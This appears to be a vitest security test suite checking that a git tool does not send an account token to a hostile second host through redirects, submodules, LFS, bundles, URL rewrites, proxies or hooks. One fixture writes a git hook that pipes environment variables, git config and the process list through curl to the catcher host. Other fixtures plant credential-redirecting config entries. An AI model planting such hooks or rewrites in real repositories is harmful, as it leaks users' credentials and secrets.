import { execFile } from 'node:child_process';
import { appendFile, mkdir, readFile, writeFile } from 'node:fs/promises';
import type { RequestListener } from 'node:http';
import { join } from 'node:path';
import { promisify } from 'node:util';

import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';

import { createGitSite, type GitSite } from '../sandbox/network/git-site.ts';
import { createGitWorld, type GitWorld } from './git-world.ts';
import { createLeakWorld, type LeakWorld } from './leak-world.ts';

const run = promisify(execFile);
const token = 'gloas-canary-token-0123456789abcdef';
const statuses = [301, 302, 307, 308] as const;
const sites: GitSite[] = [];

let leak: LeakWorld;
let world: GitWorld;
let plain: GitSite;
beforeAll(async () => {
  leak = await createLeakWorld();
  plain = await createGitSite(token);
  sites.push(plain);
  world = await newWorld();
}, 60_000);
afterAll(async () => {
  await world.close();
  for (const site of sites) await site.close();
  await leak.close();
});
afterEach(() => leak.catcher.forget());

/** The catcher's certificate is trusted like the host's: nothing but our own rules keeps the token. */
const newWorld = () =>
  createGitWorld([
    { login: 'ada', instance: leak.hostile.url, ca: leak.ca, password: async () => token },
  ]);

let clones = 0;
async function clone(where = world): Promise<string> {
  clones += 1;
  const folder = join(where.folder, 'clones', `c${clones}`);
  const url = `${leak.hostile.url}/team/shop.git`;
  await where.ended(await where.git['git.clone']({ url, folder }));
  return folder;
}

/** Its own host was given the token; the catcher has not one byte of it. */
function expectKept({ contacted = false } = {}): void {
  expect(leak.hostile.found(token)).toBe(1);
  expect(leak.catcher.found(token)).toBe(0);
  if (!contacted) expect(leak.catcher.bytes()).toBe(0);
}

test('the catcher finds a token that git is made to send to it', async () => {
  const helper = `!f() { echo username=oauth2; echo password=${token}; }; f`;
  const settings = [
    `http.sslCAInfo=${join(world.folder, 'ca.pem')}`,
    `credential.helper=${helper}`,
  ];
  await writeFile(join(world.folder, 'ca.pem'), leak.ca);
  const args = settings.flatMap((setting) => ['-c', setting]);
  const env = { PATH: process.env['PATH'], HOME: world.folder, GIT_TERMINAL_PROMPT: '0' };
  await run('git', [...args, 'ls-remote', `${leak.catcher.url}/x.git`], { env }).catch(() => '');
  expect(leak.catcher.found(token)).toBe(1);
});

describe('git keeps the token from another host', () => {
  test.each(statuses)('that a %i of info/refs points to', async (status) => {
    leak.hostile.answer(afterSignIn(away(status)));
    await clone();
    expectKept();
  });

  test.each(statuses)('that a %i of the first POST points to', async (status) => {
    leak.hostile.answer((request, response) => {
      if (request.method === 'GET') return plain.listener(request, response);
      return away(status)(request, response);
    });
    await clone();
    expect(leak.hostile.asked.some((line) => line.startsWith('POST'))).toBe(true);
    expectKept();
  });

  test('that a redirect names before anything was asked', async () => {
    leak.hostile.answer(away(302));
    await clone();
    expect(leak.hostile.asked.length).toBe(1);
    expect(leak.catcher.bytes()).toBe(0);
  });

  test('that a submodule, LFS settings and a bundle name', async () => {
    const site = await createGitSite(
      token,
      {
        '.gitmodules': `[submodule "s"]\n\tpath = s\n\turl = ${leak.catcher.url}/s.git\n`,
        '.lfsconfig': `[lfs]\n\turl = ${leak.catcher.url}/lfs\n\tpushurl = ${leak.catcher.url}/lfs\n`,
        '.gitattributes': '*.bin filter=lfs diff=lfs merge=lfs -text\n',
        'big.bin': `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 5\n`,
      },
      {
        'uploadpack.advertiseBundleURIs': 'true',
        'bundle.version': '1',
        'bundle.mode': 'all',
        'bundle.x.uri': `${leak.catcher.url}/x.bundle`,
      },
    );
    sites.push(site);
    leak.hostile.answer(site.listener);
    const folder = await clone();
    expect(await readFile(join(folder, '.gitmodules'), 'utf8')).toContain(leak.catcher.url);
    const [known] = await world.git['git.clones']({});
    await world.ended(await world.git['git.fetch']({ clone: known!.id }));
    await run('git', ['config', 'lfs.url', `${leak.catcher.url}/lfs`], { cwd: folder });
    await world.ended(await world.git['git.fetch']({ clone: known!.id }));
    expectKept();
    await run('git', ['lfs', 'version']).catch(() =>
      console.log('not run: LFS downloads by git-lfs itself: git-lfs is not installed here'),
    );
  });

  test('that a server of the old protocol calls an alternate', async () => {
    leak.hostile.answer(
      afterSignIn((request, response) => {
        const answers: Readonly<Record<string, string>> = {
          '/team/shop.git/info/refs': `${'a'.repeat(40)}\trefs/heads/main\n`,
          '/team/shop.git/HEAD': 'ref: refs/heads/main\n',
          '/team/shop.git/objects/info/http-alternates': `${leak.catcher.url}/objects\n`,
          '/team/shop.git/objects/info/alternates': `${leak.catcher.url}/objects\n`,
        };
        const found = answers[(request.url ?? '').replace(/\?.*/, '')];
        response.writeHead(found === undefined ? 404 : 200, { 'content-type': 'text/plain' });
        response.end(found);
      }),
    );
    await clone();
    expect(leak.hostile.asked.some((line) => line.includes('/objects/'))).toBe(true);
    expectKept();
  });

  test.each([
    ['insteadOf', () => `[url "${leak.catcher.url}/"]\ninsteadOf = ${leak.hostile.url}/\n`],
    ['pushInsteadOf', () => `[url "${leak.catcher.url}/"]\npushInsteadOf = ${leak.hostile.url}/\n`],
    ['another push address', () => `[remote "origin"]\npushurl = ${leak.catcher.url}/x.git\n`],
    ['another address', () => `[remote "origin"]\nurl = ${leak.catcher.url}/x.git\n`],
    ['a proxy', () => `[http]\nproxy = ${leak.catcher.plain}\n`],
    ['a proxy for one host', () => `[http "${leak.hostile.url}"]\nproxy = ${leak.catcher.plain}\n`],
    ['a proxy for its remote', () => `[remote "origin"]\nproxy = ${leak.catcher.plain}\n`],
    ['a bundle', () => `[fetch]\nbundleURI = ${leak.catcher.url}/x.bundle\n`],
  ])('that the folder names by %s', async (_what, settings) => {
    leak.hostile.answer(plain.listener);
    const folder = await clone();
    await appendFile(join(folder, '.git', 'config'), settings());
    const [known] = await world.git['git.clones']({});
    expect(known?.folder).toBe(folder);
    await writeFile(join(folder, 'more'), 'x');
    await run('git', ['add', 'more'], { cwd: folder });
    const person = ['-c', 'user.name=Ada', '-c', 'user.email=ada@example.test'];
    await run('git', [...person, 'commit', '-q', '-m', 'More'], { cwd: folder });
    await settled(world.git['git.fetch']({ clone: known!.id }));
    await settled(world.git['git.push']({ clone: known!.id }));
    // The runner by itself, without the look at the settings that comes before.
    const args = ['fetch', '--no-recurse-submodules', 'origin'];
    const account = world.accounts[0]!;
    const origin = leak.hostile.url;
    const credential = { kind: 'https', account: account.id, origin, root: '' } as const;
    const rest = { username: 'oauth2', password: async () => token };
    await world.runner
      .run({ folder, args, credential: { ...credential, ...rest } })
      .catch(() => '');
    expectKept({ contacted: true });
  });

  async function settled(started: ReturnType<GitWorld['git']['git.fetch']>): Promise<void> {
    await started.then((operation) => world.ended(operation)).catch(() => undefined);
  }

  test('that the person’s own settings rewrite it to', async () => {
    const home = join(world.folder, 'home');
    await mkdir(home);
    const rewrite = ['insteadOf', 'pushInsteadOf']
      .map((key) => `\t${key} = ${leak.hostile.url}/\n`)
      .join('');
    const proxy = `[http]\n\tproxy = ${leak.catcher.plain}\n`;
    await writeFile(join(home, '.gitconfig'), `[url "${leak.catcher.url}/"]\n${rewrite}${proxy}`);
    const before = process.env['HOME'];
    process.env['HOME'] = home;
    const other = await newWorld();
    try {
      leak.hostile.answer(plain.listener);
      const folder = await clone(other);
      expect(await readFile(join(folder, 'README.md'), 'utf8')).toBe('# shop\n');
      expectKept();
    } finally {
      process.env['HOME'] = before;
      await other.close();
    }
  });

  test('that a hook tells, as far as hooks run at all', async () => {
    leak.hostile.answer(plain.listener);
    const folder = await clone();
    const [known] = await world.git['git.clones']({});
    const hook = `#!/bin/sh\n(env; git config --list; ps axeww) | curl -s -m 2 --data-binary @- ${leak.catcher.plain}/ >/dev/null\nexit 0\n`;
    for (const name of ['pre-commit', 'post-commit', 'pre-push', 'reference-transaction']) {
      await writeFile(join(folder, '.git', 'hooks', name), hook, { mode: 0o755 }).catch(
        async () => {
          await mkdir(join(folder, '.git', 'hooks'), { recursive: true });
          await writeFile(join(folder, '.git', 'hooks', name), hook, { mode: 0o755 });
        },
      );
    }
    await settled(world.git['git.fetch']({ clone: known!.id }));
    expect(leak.catcher.bytes()).toBe(0);
    await writeFile(join(folder, 'more'), 'x');
    await world.git['git.commit']({ clone: known!.id, message: 'More' });
    // Hooks of a commit run, and this one told the catcher all it knows.
    const told = leak.catcher.bytes();
    expect(told).toBeGreaterThan(200);
    await settled(world.git['git.push']({ clone: known!.id }));
    expect(leak.catcher.bytes()).toBe(told);
    expectKept({ contacted: true });
  });
});

const away =
  (status: number): RequestListener =>
  (request, response) => {
    request.resume();
    response.writeHead(status, { location: `${leak.catcher.url}${request.url}` }).end();
  };

/** Asks for the credential first, as servers do. */
const afterSignIn =
  (then: RequestListener): RequestListener =>
  (request, response) => {
    if (request.headers.authorization) return then(request, response);
    request.resume();
    response.writeHead(401, { 'www-authenticate': 'Basic realm="x"' }).end();
    return undefined;
  };
